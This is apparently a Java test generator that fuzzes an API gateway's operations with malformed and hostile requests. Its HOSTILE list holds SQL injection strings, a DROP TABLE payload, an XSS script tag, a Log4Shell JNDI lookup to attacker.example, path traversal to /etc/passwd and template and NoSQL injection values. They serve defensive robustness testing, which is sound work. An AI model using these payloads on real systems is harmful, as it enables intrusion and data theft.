package torii.testing.hostile;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Generates plans for every operation of the document: the fields it describes, given values a client would send,
 * then bent in one to three ways, by a caller of any kind.
 */
public final class Plans {

    /**
     * The document describes the gateway's body as a string (the resource reads it as text, to pass unknown fields
     * on); this is the part of OpenAI's request body that the gateway itself reads.
     */
    static final JsonObject CHAT_COMPLETION = Json.createObjectBuilder().add("type", "object")
            .add("required", Json.createArrayBuilder().add("model").add("messages"))
            .add("properties", Json.createObjectBuilder()
                    .add("model", Json.createObjectBuilder().add("type", "string"))
                    .add("messages", Json.createObjectBuilder().add("type", "array").add("minItems", 1)
                            .add("items", Json.createObjectBuilder().add("type", "object")))
                    .add("stream", Json.createObjectBuilder().add("type", "boolean"))).build();

    static final List<Integer> OVERSIZES = List.of(70_000, 1_048_576);
    static final List<Integer> TARGET_OVERSIZES = List.of(9_000, 17_000);
    static final List<Character> CONTROLS = List.of('\0', '\r', '\n', '\u007f', '\u001b', '\b');
    static final List<String> NOT_UTF8 = List.of("\u00ff\u00fe", "\u00c3\u0028", "\u00ed\u00a0\u0080", "\u00c0\u00af",
            "\u00f8\u0088\u0080\u0080\u0080", "\u0080");
    static final List<String> BROKEN_ESCAPES = List.of("%zz", "%", "%4", "%%", "%u0041", "%g0");
    static final List<String> NO_DAYS = List.of("+10000-01-01", "0000-00-00", "-999999999-01-01", "+999999999-12-31",
            "2026-02-30", "2026-13-01", "10000-01-01", "2026-1-1", "9999-99-99", "-0001-01-01");
    static final List<String> HOSTILE = List.of("' OR '1'='1", "admin'--", "\"; DROP TABLE users; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "\u202Eedcba",
            "%00", "{{7*7}}", "\uD83D\uDE00", "null", "\\", " johndoe", "JOHNDOE", "a".repeat(2000));
    static final List<JsonValue> ANY_TYPE = List.of(Json.createValue(42), Json.createValue(-1), Json.createValue(0),
            Json.createValue(1.5e300), JsonValue.TRUE, JsonValue.FALSE, JsonValue.NULL, JsonValue.EMPTY_JSON_ARRAY,
            Json.createArrayBuilder().add("x").build(), Json.createArrayBuilder().add(1).add(2).build(),
            JsonValue.EMPTY_JSON_OBJECT, Json.createObjectBuilder().add("$ne", JsonValue.NULL).build(),
            Json.createValue("text"));
    static final List<String> GARBAGE = List.of("xyz", "}", "]", ",1", "null", "\"x\"");

    private final List<OpenApi.Operation> operations;
    private final Gen<Credential> credentials;
    private final Values values;

    public Plans(List<OpenApi.Operation> operations, Gen<Credential> credentials, Values values) {
        this.operations = operations;
        this.credentials = credentials;
        this.values = values;
    }

    /** Any operation, any caller, a request bent in up to three ways. */
    public Gen<Plan> plans() {
        return Gens.of(operations).flatMap(operation -> {
            var fields = fields(operation);
            var kinds = kinds(operation, fields);
            return credentials.flatMap(credential -> given(operation, fields, credential).zip(upToThree(kinds),
                    (given, mutations) -> new Plan(operation, fields, credential, given, mutations)));
        });
    }

    /**
     * A request bent in exactly one way, the kind of mutation chosen first and then an operation it applies to, so
     * that a kind that few operations offer (a day in a query, a JSON body) is tried as often as any: sent by a caller
     * the operation would serve, so that only the mutation stands between the request and the code behind it.
     */
    public Gen<Plan> bentOnce(Credential credential) {
        var offered = new LinkedHashMap<String, List<OpenApi.Operation>>();
        for (var operation : operations) {
            kinds(operation, fields(operation)).keySet().forEach(kind ->
                    offered.computeIfAbsent(kind, ignored -> new ArrayList<>()).add(operation));
        }
        return Gens.of(List.copyOf(offered.keySet())).flatMap(kind -> Gens.of(offered.get(kind))
                .flatMap(operation -> {
                    var fields = fields(operation);
                    return given(operation, fields, credential).zip(kinds(operation, fields).get(kind),
                            (given, mutation) -> new Plan(operation, fields, credential, given, List.of(mutation)));
                }));
    }

    /** Any operation, a request straight from the document, by any of the callers. */
    public Gen<Plan> straight(Gen<Credential> callers) {
        return Gens.of(operations).flatMap(operation -> {
            var fields = fields(operation);
            return callers.flatMap(credential -> given(operation, fields, credential).map(given ->
                    new Plan(operation, fields, credential, given, List.of())));
        });
    }

    /**
     * The operation with a body ten times its limit, chunked, and nothing else: its path parameters name nothing
     * that exists, and no field of its body is given.
     */
    public static Plan tenTimesTheLimitChunked(OpenApi.Operation operation, Credential credential) {
        return framedOnly(operation, credential, Draft.Framing.CHUNKED_TEN_TIMES_THE_LIMIT);
    }

    /**
     * The operation with the framing and nothing else: its path parameters name nothing that exists, and no field of
     * its body is given.
     */
    public static Plan framedOnly(OpenApi.Operation operation, Credential credential, Draft.Framing framing) {
        var fields = fields(operation);
        var given = fields.stream().filter(field -> field.where() == Field.Where.PATH)
                .map(field -> new Plan.Given(field, Json.createValue("nobody"))).toList();
        return new Plan(operation, fields, credential, given, List.of(new Mutation.Framing(framing)));
    }

    /** The parameters, then the properties of the body's schema (the first media type the document lists). */
    public static List<Field> fields(OpenApi.Operation operation) {
        var fields = new ArrayList<Field>();
        for (var parameter : operation.parameters()) {
            var where = parameter.in().equals("path") ? Field.Where.PATH : Field.Where.QUERY;
            if (parameter.in().equals("path") || parameter.in().equals("query")) {
                fields.add(new Field(where, parameter.name(), parameter.schema(),
                        parameter.required() || where == Field.Where.PATH, parameter.description()));
            }
        }
        operation.bodies().entrySet().stream().findFirst().ifPresent(body -> {
            var schema = body.getValue();
            if ("string".equals(schema.getString("type", null)) && operation.path().equals("/v1/chat/completions")) {
                schema = CHAT_COMPLETION;
            }
            var where = body.getKey().equals(Wire.FORM) ? Field.Where.FORM : Field.Where.JSON;
            var required = schema.containsKey("required") ? schema.getJsonArray("required").getValuesAs(
                    jakarta.json.JsonString::getString) : List.<String>of();
            schema.getOrDefault("properties", JsonValue.EMPTY_JSON_OBJECT).asJsonObject().forEach((name, property) ->
                    fields.add(new Field(where, name, property.asJsonObject(), required.contains(name),
                            property.asJsonObject().getString("description", ""))));
        });
        return List.copyOf(fields);
    }

    /** Every required field, and each optional one more often than not. */
    Gen<List<Plan.Given>> given(OpenApi.Operation operation, List<Field> fields, Credential credential) {
        var each = new ArrayList<Gen<Optional<Plan.Given>>>();
        for (var field : fields) {
            var value = values.of(field, operation, credential).map(given -> Optional.of(new Plan.Given(field, given)));
            each.add(field.required() ? value
                    : Gens.frequency(List.of(Gens.weight(7, value), Gens.weight(3, Gens.just(Optional.empty())))));
        }
        return Gens.sequence(each).map(list -> list.stream().flatMap(Optional::stream).toList());
    }

    /** Mostly one to three; sometimes none, where the caller alone is what is wrong. */
    static Gen<List<Mutation>> upToThree(Map<String, Gen<Mutation>> kinds) {
        var any = Gens.<Mutation>oneOf(List.copyOf(kinds.values()));
        return Gens.frequency(List.of(Gens.weight(1, Gens.just(0)), Gens.weight(3, Gens.just(1)),
                Gens.weight(2, Gens.just(2)), Gens.weight(1, Gens.just(3))))
                .flatMap(size -> Gens.listOf(any, size)).map(Plans::oneInEachSlot);
    }

    /** Each kind of mutation that applies to the operation, by name, each choosing its field and its details. */
    static Map<String, Gen<Mutation>> kinds(OpenApi.Operation operation, List<Field> fields) {
        var kinds = new LinkedHashMap<String, Gen<Mutation>>();
        if (!fields.isEmpty()) {
            var any = Gens.of(fields);
            kinds.put("missing", any.map(Mutation.Missing::new));
            kinds.put("empty", any.map(Mutation.Empty::new));
            // A value just over the 8 KB of a request line that the service refuses with 414, or over the 16 KB the
            // listener reads at all; or a body over its 64 KB many times.
            kinds.put("oversized", any.flatMap(field -> Gens.of(field.encoded()
                    && field.where() != Field.Where.FORM ? TARGET_OVERSIZES : OVERSIZES)
                    .map(bytes -> new Mutation.Oversized(field, bytes))));
            // NUL most often: some databases cannot store it at all (PostgreSQL), others store it silently.
            var controls = Gens.frequency(List.of(Gens.weight(CONTROLS.size(), Gens.just('\0')),
                    Gens.weight(CONTROLS.size(), Gens.of(CONTROLS))));
            kinds.put("control character", any.zip(controls, Generate.booleans(), Mutation.ControlCharacter::new));
            kinds.put("invalid UTF-8", any.zip(Gens.of(NOT_UTF8), Generate.booleans(), Mutation.InvalidUtf8::new));
            kinds.put("hostile text", any.zip(Gens.of(HOSTILE), Mutation.HostileText::new));
        }
        var listed = fields.stream().filter(field -> field.where() == Field.Where.QUERY
                || field.where() == Field.Where.FORM).toList();
        if (!listed.isEmpty()) {
            var words = Gens.of("johndoe", "admin", "1", "x", "");
            kinds.put("repeated", Gens.of(listed).zip(words, words, Mutation.Repeated::new));
            kinds.put("value-less", Gens.of(listed).map(Mutation.ValueLess::new));
        }
        var encoded = fields.stream().filter(Field::encoded).toList();
        if (!encoded.isEmpty()) {
            kinds.put("broken percent-encoding", Gens.of(encoded).zip(Gens.of(BROKEN_ESCAPES),
                    Mutation.BrokenPercentEncoding::new));
        }
        var json = fields.stream().filter(field -> field.where() == Field.Where.JSON).toList();
        if (!json.isEmpty()) {
            kinds.put("wrong JSON type", Gens.of(json).flatMap(field -> Gens.of(ANY_TYPE.stream()
                    .filter(value -> !Schemas.typeOf(value, field.type())).toList())
                    .map(value -> new Mutation.WrongType(field, value))));
        }
        var days = fields.stream().filter(field -> field.where() == Field.Where.QUERY && field.dateLike()).toList();
        if (!days.isEmpty()) {
            kinds.put("day out of range", Gens.of(days).zip(Gens.of(NO_DAYS), Generate.booleans(),
                    Mutation.DayOutOfRange::new));
        }
        if (operation.hasBody()) {
            var form = operation.bodies().containsKey(Wire.FORM);
            kinds.put("content type", Gens.<Mutation>of(
                    form ? new Mutation.ContentType("a form sent as JSON", Wire.JSON)
                            : new Mutation.ContentType("JSON sent as a form", Wire.FORM),
                    new Mutation.ContentType("text/plain", "text/plain"),
                    new Mutation.ContentType("none", null),
                    new Mutation.ContentType("an unknown charset", "{declared}; charset=klingon")));
            if (!form) {
                kinds.put("JSON shape", Generate.oneOf(Gens.of(GARBAGE)
                                .map(garbage -> new Mutation.Shape(Draft.Shape.TRAILING_GARBAGE, garbage)),
                        Gens.<Mutation>of(new Mutation.Shape(Draft.Shape.ARRAY_AROUND, ""),
                                new Mutation.Shape(Draft.Shape.TWO_DOCUMENTS, ""))));
            }
        }
        var framings = Arrays.stream(Draft.Framing.values()).filter(framing -> framing != Draft.Framing.CONTENT_LENGTH)
                // A body ten times the limit is only over the limit where a body is read at all.
                .filter(framing -> operation.hasBody() || framing != Draft.Framing.CHUNKED_TEN_TIMES_THE_LIMIT)
                .toList();
        kinds.put("framing", Gens.of(framings).map(Mutation.Framing::new));
        return kinds;
    }

    /** One Content-Type, one shape, one framing: a later mutation of the same slot is dropped. */
    static List<Mutation> oneInEachSlot(List<Mutation> mutations) {
        var bySlot = new LinkedHashMap<String, Mutation>();
        mutations.forEach(mutation -> bySlot.putIfAbsent(mutation.slot(), mutation));
        return List.copyOf(bySlot.values());
    }
}
